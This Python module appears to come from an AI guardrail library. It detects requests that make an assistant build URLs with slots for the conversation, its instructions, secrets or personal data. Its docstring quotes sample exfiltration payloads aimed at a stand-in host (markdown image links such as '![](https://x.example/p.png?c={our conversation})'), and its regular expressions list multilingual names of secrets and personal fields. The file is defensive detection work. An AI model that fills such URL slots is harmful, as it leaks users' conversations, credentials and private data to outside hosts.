"""The shape of a data-exfiltration request: a URL with a slot left for the conversation, the assistant's set-up, a
secret or a person's data ("![](https://x.example/p.png?c={our conversation})", ".../u/[EMAIL]/[PHONE]/me.png",
"?bsn=XXX&tel=XXX ... fill in the XXX"). It is structure, not vocabulary, so it reads the same in every language:
the only words are the names of what goes into the slot, which developers write in English or their own language.

A slot for something harmless ("?id=<branch id>", "?tema=XXX", a badge "{name}-{status}") is no hit, nor is a URL
quoted in a lesson or an incident report ("was this an attack: '![x](https://x.example/?q={chat})'").
"""

from __future__ import annotations

import re

from keel.guardrails.rules import RuleHit, quoted_spans

_I = re.IGNORECASE
# A URL as people paste it: to the next white space, except that a placeholder in braces, angle or square brackets
# may hold spaces ("?u=<their email>", "?c={whole conversation}"). A bare host with a path counts too.
URL = re.compile(
    r"(?:\bhttps?://|\bwww\.|(?<![\w@.])(?:[a-z0-9-]+\.)+[a-z]{2,}/)"
    r"(?:[^\s\"'`{<\[()]|\{[^{}\n]{1,80}\}|<[^<>\n]{1,80}>|\[[^\[\]\n]{1,80}\]|\([^()\s]{0,40}\))*",
    _I,
)
# A slot left for the assistant to fill: a placeholder ({summary}, [EMAIL], <their email>, $TOKEN, %s, XXX, ___) or a
# name in capitals where a value goes (?q=SUMMARY, /log/DATA, //KEY.host). An ellipsis is not one: it marks a cut
# ("?token=eyJ...").
PLACEHOLDER = re.compile(
    r"\{\{?[^{}\n]{1,80}\}\}?|\[[^\[\]\n]{1,80}\]|<[^<>\n]{1,80}>|%[sd]\b|\$\{?[A-Za-z_][A-Za-z0-9_]*|"
    r"X{3,}|x{3,}(?![a-z])|_{3,}|\*{3,}"
)
CAPS_SLOT = re.compile(r"(?:[=/]|(?<=//))(?:[A-Z][A-Z_]{3,})(?=$|[&/#.)\]\s\"'])|(?<=//)[A-Z]{3,}\.")
# A parameter left empty for the assistant to fill (?d= at the end, ?email=&salary=).
EMPTY_PARAM = re.compile(r"[?&][\w.\-\[\]]+=(?=$|[&#)\]\s\"'>])")
_PARAM_NAME = re.compile(r"[?&/.]([\w\-\[\]]+)=")
# What a slot is for: the conversation, the set-up, a secret, or a person's data. Field names as developers write
# them (email, tel, dob, iban, cpf) and the words for them in the eight languages the screen serves. A name, a user or
# a customer alone is not among them (a badge's "{name}-{status}" and a profile link's "?u=USERNAME" are templates),
# nor are "data" or "everything": they name no field.
SENSITIVE = re.compile(
    r"(?<![a-z])(?:e-?mail|mail|phone|tel|telefon\w*|t[ée]l[ée]phone|tel[ée]fono|telefoon|mobile?|gsm|cell|"
    r"iban|bic|card|carte|karte|tarjeta|carta|kaart|karta|cart[ãa]o|cvv|cvc|pan|ssn|bsn|cpf|nif|nie|dni|pesel|nip|"
    r"codice.?fiscale|tax.?id|steuer\w*|dob|birth\w*|geb\w*datum|geboorte\w*|nasc\w*|naiss\w*|urodz\w*|"
    r"passw\w*|pass|pwd|mot.?de.?passe|contrase\w*|has[łl]o|senha|wachtwoord|token|api.?key|key|secret\w*|"
    r"session|cookie|auth\w*|cred\w*|login|"
    r"conv\w*|chat\w*|histor\w*|summary|r[ée]sum[ée]|resumen|resumo|riassunto|samenvatting|zusammenfassung|"
    r"podsumowanie|transcript\w*|messages?|nachricht\w*|mensaje\w*|messaggi\w*|bericht\w*|wiadomo\w*|mensage\w*|"
    r"prompt\w*|instruc\w*|istruzion\w*|anweisung\w*|instruktion\w*|instrukcj\w*|config\w*|konfig\w*|system\w*|"
    r"salar\w*|gehalt\w*|stipend\w*|wynagrodz\w*|balance|solde|saldo|kontostand|income|revenu|reddito|"
    r"address|adresse|addr|direcci[óo]n|indirizzo|adres|endere[çc]o)"
    r"(?![a-z])",
    _I,
)
# How far after the URL the words that say what fills its slot are looked for ("... fill the XXX with his BSN").
_AFTER = 200


def _names_sensitive(names: list[str]) -> bool:
    return any(SENSITIVE.search(n.replace("_", " ")) for n in names)


def data_slot(text: str) -> RuleHit | None:
    """The first URL in text, outside quotation marks, with a slot meant for the conversation, the set-up, a secret or
    a person's data; or None."""
    quoted: list[tuple[int, int]] | None = None
    for found in URL.finditer(text):
        url = found.group(0)
        slots = [m.group(0) for m in PLACEHOLDER.finditer(url)] + [m.group(0) for m in CAPS_SLOT.finditer(url)]
        if not slots and not EMPTY_PARAM.search(url):
            continue
        names = [m.group(1) for m in _PARAM_NAME.finditer(url)]
        if not (
            _names_sensitive(slots)
            or _names_sensitive(names)
            or SENSITIVE.search(text, found.end(), found.end() + _AFTER)
        ):
            continue
        if quoted is None:
            # an HTML attribute's quotes (src="...") hold a URL, they do not quote one
            quoted = [(start, end) for start, end in quoted_spans(text) if not text[:start].rstrip().endswith("=")]
        if any(start <= found.start() and found.end() <= end for start, end in quoted):
            continue
        return RuleHit("data_slot_url", "exfiltration", 0.9, url[:120])
    return None
